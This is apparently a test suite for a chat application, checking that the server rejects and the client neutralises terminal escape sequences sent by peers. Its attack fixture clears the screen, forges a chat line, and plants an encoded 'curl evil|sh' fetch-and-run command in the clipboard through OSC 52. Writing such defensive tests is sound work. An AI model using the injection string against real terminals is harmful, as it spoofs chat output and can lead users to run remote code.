// Terminal injection: text one peer sets must never drive another's terminal.
// The server refuses control characters in everything it passes on, and the
// client shows whatever arrives inert; each is tested here without the other.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { connect as netConnect } from "node:net";
import { after, before, describe, it } from "node:test";
import type { ServerMessage } from "../../src/protocol/messages.js";
import { tempDir } from "../helpers/files.js";
import { hostileServer } from "../helpers/hostile-server.js";
import { joinedTextPeer, type NativePeer, nativePeer } from "../helpers/peers.js";
import { type ServerProcess, spawnCli, startServer } from "../helpers/processes.js";
import { rawNative } from "../helpers/raw-native.js";

/** The hostile tester's line: clears the screen, fills the clipboard (OSC 52), forges a line. */
const ATTACK = "\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07\r\x1b[2K<alice> fake";
/** Control characters (tab aside) and bidi overrides: nothing a peer sends may carry these. */
const UNSAFE = /[^\P{Cc}\t]|[\u202a-\u202e\u2066-\u2069]/u;

function stringsOf(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (value !== null && typeof value === "object") return Object.values(value).flatMap(stringsOf);
  return [];
}

/** Every string in `m` is free of control characters (chat and notice text may have line feeds). */
function assertInert(m: ServerMessage): void {
  const multiLine = m.type === "message" || m.type === "notice" ? m.text : undefined;
  for (const s of stringsOf(m)) {
    const text = s === multiLine ? s.replaceAll("\n", "") : s;
    assert.doesNotMatch(text, UNSAFE, `${m.type} carries ${JSON.stringify(s)}`);
  }
}

/** A line said in `room` (the room the hostile server welcomes clients to, unless told). */
function say(from: string, text: string, room = "#lobby"): ServerMessage {
  return { type: "message", kind: "say", ts: 1, from, to: "", text, room, id: 1, replayed: false };
}

describe("terminal injection", () => {
  describe("the server passes on no control characters", () => {
    let server: ServerProcess;
    let watcher: NativePeer;

    before(async () => {
      server = await startServer();
      watcher = await nativePeer(server.port, "watcher");
    });
    after(async () => {
      watcher.client.close();
      assert.equal(await server.stop(), 0);
      for (const m of watcher.received) assertInert(m);
      for (const line of server.stdout.lines) assert.doesNotMatch(line, UNSAFE, line);
    });

    it("a netcat /quit with escape sequences leaves with the plain reason; the quitter is told", async () => {
      const onlooker = await joinedTextPeer(server.port);
      const socket = netConnect({ host: "127.0.0.1", port: server.port });
      let heard = "";
      socket.setEncoding("utf8");
      socket.on("data", (text: string) => {
        heard += text;
      });
      await once(socket, "connect");
      socket.write(`/quit ${ATTACK}\n`);
      await once(socket, "close");
      assert.match(heard, /\* error: the reason contains control characters; only tab is allowed/);
      assert.match(heard, /\* disconnected by server: quit\n$/);
      const left = await watcher.waitFor((m) => m.type === "left" && m.reason.startsWith("quit"));
      assert.equal(left.type === "left" && left.reason, "quit");
      await onlooker.lines.waitFor(/^\* guest\S* left \(quit\)$/);
      assert.ok(!onlooker.lines.lines.some((l) => l.includes("<alice> fake")));
      onlooker.socket.destroy();
    });

    it("a sender's cancel reason with escape sequences cancels, with the default reason", async () => {
      const raw = await rawNative(server.port, "canceller");
      raw.send({ type: "file-offer", seq: 1, name: "x.bin", size: 10 });
      const accepted = await raw.waitFor((m) => m.type === "file-accepted");
      const id = (accepted as { id: number }).id;
      raw.send({ type: "file-cancel", id, reason: ATTACK });
      const cancelled = await watcher.waitFor((m) => m.type === "file-cancelled" && m.id === id);
      assert.equal(
        cancelled.type === "file-cancelled" && cancelled.reason,
        "cancelled by canceller",
      );
      const refusal = await raw.waitFor((m) => m.type === "error" && m.seq === 0);
      assert.equal(refusal.type === "error" && refusal.code, "CHAT_ERR_CONTROL_CHARACTERS");
      raw.socket.destroy();
    });

    it("a receiver's file-received reason with escape sequences reaches the sender as a plain failure", async () => {
      const sender = await rawNative(server.port, "offerer");
      const receiver = await rawNative(server.port, "refuser");
      const data = new Uint8Array(1000).fill(1);
      sender.send({ type: "file-offer", seq: 1, name: "y.bin", size: data.length });
      const accepted = await sender.waitFor((m) => m.type === "file-accepted");
      const id = (accepted as { id: number }).id;
      sender.send({ type: "file-chunk", id, offset: 0, data });
      sender.send({ type: "file-end", id, sha256: createHash("sha256").update(data).digest() });
      await receiver.waitFor((m) => m.type === "file-end" && m.id === id);
      receiver.send({ type: "file-received", id, ok: false, reason: `${ATTACK}\n<bob> fake` });
      // The watcher takes no files and declined at once, so the refusal completes the transfer.
      const complete = await sender.waitFor((m) => m.type === "file-complete" && m.id === id);
      assertInert(complete);
      assert.match(complete.type === "file-complete" ? complete.detail : "", /refuser: failed/);
      sender.socket.destroy();
      receiver.socket.destroy();
    });
  });

  describe("the client shows whatever arrives inert", () => {
    const attacks: ServerMessage[] = [
      { type: "left", nick: "mallory", reason: `quit: ${ATTACK}`, room: "" },
      say("mallory", `hi ${ATTACK}`),
      say("m\x1b[2Jx", "\u202eevil"),
      // Another room's line names its room: the room's name reaches the screen too.
      say("mallory", "elsewhere", `#x${ATTACK}`),
      {
        type: "file-offered",
        id: 7,
        from: "mallory",
        name: `n${ATTACK}.mp3`,
        size: 1,
        offset: 0,
        requested: false,
        room: "#lobby",
      },
      { type: "file-cancelled", id: 7, name: "n.mp3", reason: ATTACK },
      { type: "notice", text: `note ${ATTACK}` },
      { type: "renamed", from: "mallory", to: `\x9b2Jalice` },
    ];

    it("in pipe mode: every line spelled out, no control character printed", async () => {
      const hostile = await hostileServer(attacks);
      const saveDir = await tempDir("inert");
      const cli = spawnCli([
        "connect",
        `127.0.0.1:${hostile.port}`,
        "--nick",
        "target",
        "--save-dir",
        saveDir.path,
      ]);
      try {
        await cli.stdout.waitFor(/alice$/);
      } finally {
        cli.child.stdin.end();
        await cli.exited;
        await hostile.close();
        await saveDir.remove();
      }
      const lines = cli.stdout.lines;
      for (const line of lines) assert.doesNotMatch(line, UNSAFE, JSON.stringify(line));
      const spelled = "\\x1b[2J\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x0d\\x1b[2K<alice> fake";
      assert.ok(lines.includes(`* mallory left (quit: ${spelled})`), lines.join("\n"));
      assert.ok(lines.includes(`<mallory> hi ${spelled}`));
      assert.ok(lines.includes("<m\\x1b[2Jx> \\u202eevil"));
      assert.ok(lines.includes(`#x${spelled} <mallory> elsewhere`));
      assert.ok(lines.includes("* mallory is now known as \\x9b2Jalice"));
      assert.ok(!lines.some((l) => l.startsWith("<alice> fake")));
    });
  });
});
